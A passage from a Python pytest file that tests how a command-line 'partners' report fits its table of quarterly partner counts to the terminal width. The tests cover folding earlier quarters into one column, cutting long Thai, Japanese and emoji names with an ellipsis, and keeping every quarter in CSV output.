    return tuple(f"{year}-Q{q}" for year in range(first, last + 1) for q in range(1, 5))


def test_a_span_too_wide_for_the_terminal_sums_its_earlier_quarters_keeping_the_totals():
    quarters = quarters_of_years(2019, 2024)  # an archive of six years: 24 quarters
    counts = {
        "org:ASEAN": Counter({q: i % 3 for i, q in enumerate(quarters)}),
        "country:JP": Counter({"2019-Q1": 4, "2024-Q4": 1}),
        "company:Google": Counter({"2020-Q2": 12}),
    }
    table = PartnerCounts(quarters, counts)
    lines = render_table(table, width=80).splitlines()
    header, rows, note = lines[0].split(), lines[1:4], lines[4:]
    assert all(display_width(line) <= 80 for line in lines)
    assert header[:4] == ["partner", "name", "total", "earlier"]
    shown = header[4:]
    assert len(shown) >= 4 and tuple(shown) == quarters[-len(shown) :]  # the latest, in order
    for row in rows:
        partner, _, total, earlier, *per = row.split()
        cells = [int(c) if c != "-" else 0 for c in (earlier, *per)]
        assert sum(cells) == int(total) == sum(counts[partner].values())
        assert cells[0] == sum(counts[partner][q] for q in quarters[: -len(shown)])
    folded = len(quarters) - len(shown)
    said = " ".join(note)
    assert f"earlier sums 2019-Q1 to {quarters[folded - 1]} ({folded} quarters)" in said
    assert "--format csv" in said and "--since" in said
    # The CSV, for scripts, keeps every quarter whatever a terminal's width.
    assert next(csv.reader(io.StringIO(render_csv(table)))) == [
        "partner",
        "name",
        "total",
        *quarters,
    ]


@pytest.mark.parametrize(("width", "said"), [(80, "To fit 80 columns,"), (40, "Narrowed for 40")])
def test_the_note_says_fitted_only_when_the_narrowest_table_fits(width, said):
    quarters = quarters_of_years(2019, 2024)
    table = PartnerCounts(quarters, {"org:ASEAN": Counter({q: 1 for q in quarters})})
    lines = render_table(table, width=width).splitlines()
    table_lines, note = lines[:2], " ".join(lines[2:])
    assert note.startswith(said)
    assert all(display_width(line) <= width for line in table_lines) == (width == 80)


def test_a_table_that_fits_is_drawn_as_it_always_was():
    table = PartnerCounts(
        ("2024-Q2", "2024-Q3", "2024-Q4"),
        {
            "country:JP": Counter({"2024-Q2": 1, "2024-Q4": 2}),
            "org:ASEAN": Counter({"2024-Q3": 1}),
        },
    )
    expected = (
        "partner     name   total  2024-Q2  2024-Q3  2024-Q4\n"
        "country:JP  Japan      3        1        -        2\n"
        "org:ASEAN   ASEAN      1        -        1        -\n"
    )
    assert render_table(table, width=80) == render_table(table) == expected


def test_names_too_long_for_the_terminal_are_cut_short_and_said_so():
    long = "company:Joint Standing Committee on Commerce, Industry and Banking"
    table = PartnerCounts(
        quarters_of_years(2024, 2025),
        {long: Counter({"2025-Q4": 2}), "company:ทรู คอร์ปอเรชั่น": Counter({"2024-Q1": 1})},
    )
    lines = render_table(table, width=80).splitlines()
    assert all(display_width(line) <= 80 for line in lines)
    assert lines[0].split()[3:5] == ["earlier", "2025-Q1"]  # the last four quarters kept
    assert "…" in lines[1] and "Joint Standing Committee on Commerce" not in lines[1]
    assert lines[1].split()[-1] == "2" and lines[2].split()[-5:] == ["1"] + ["-"] * 4
    assert "names ending in … are cut short" in " ".join(lines[3:])
    assert "--format csv gives every quarter and every name whole" in " ".join(lines[3:])


@pytest.mark.parametrize(
    ("text", "cells", "cut"),
    [
        ("ทรู คอร์ปอเรชั่น", 6, "ทรู คอ…"),
        ("ทรู คอร์ปอเรชั่น", 3, "ทรู…"),  # a vowel below stays with its consonant
        ("ソフトバンク", 6, "ソフ…"),  # two columns a character
        ("ไมโครซอฟท์", 4, "ไม…"),  # a vowel written before its consonant goes with it
        ("👩\u200d💻 ทีม", 4, "…"),  # an emoji joined by a ZWJ is not torn apart
        ("country:JP", 10, "country:JP"),
    ],
)
def test_a_name_is_cut_to_the_columns_given_with_an_ellipsis(text, cells, cut):
    assert cut_to_cells(text, cells) == cut
    assert display_width(cut) <= cells


def test_partners_command_fits_the_terminal_and_its_csv_keeps_every_quarter(store, tmp_path):
    japan_at_both_ends(store, "2023-02-02T03:00", "2025-02-03T03:00")
    db = str(tmp_path / "test.sqlite")
    narrow = CliRunner().invoke(main, ["partners", "--db", db], env={"COLUMNS": "80"})
    assert narrow.exit_code == 0, narrow.output
    assert narrow.output.splitlines()[:2] == [
        "partner     name   total  earlier  2024-Q1  2024-Q2  2024-Q3  2024-Q4  2025-Q1",
        "country:JP  Japan      2        1        -        -        -        -        1",
    ]
    assert "earlier sums 2023-Q1 to 2023-Q4 (4 quarters)" in narrow.output
    wide = CliRunner().invoke(main, ["partners", "--db", db], env={"COLUMNS": "120"})
    everyone = [*quarters_of_years(2023, 2024), "2025-Q1"]
    assert wide.output.splitlines()[0].split()[3:] == everyone
    assert len(wide.output.splitlines()) == 2  # it fits: no note
    sheet = CliRunner().invoke(
        main, ["partners", "--db", db, "--format", "csv"], env={"COLUMNS": "80"}
    )
    assert list(csv.reader(io.StringIO(sheet.output))) == [
        ["partner", "name", "total", *quarters_of_years(2023, 2024), "2025-Q1"],
        ["country:JP", "Japan", "2", "1", *["0"] * 7, "1"],
    ]
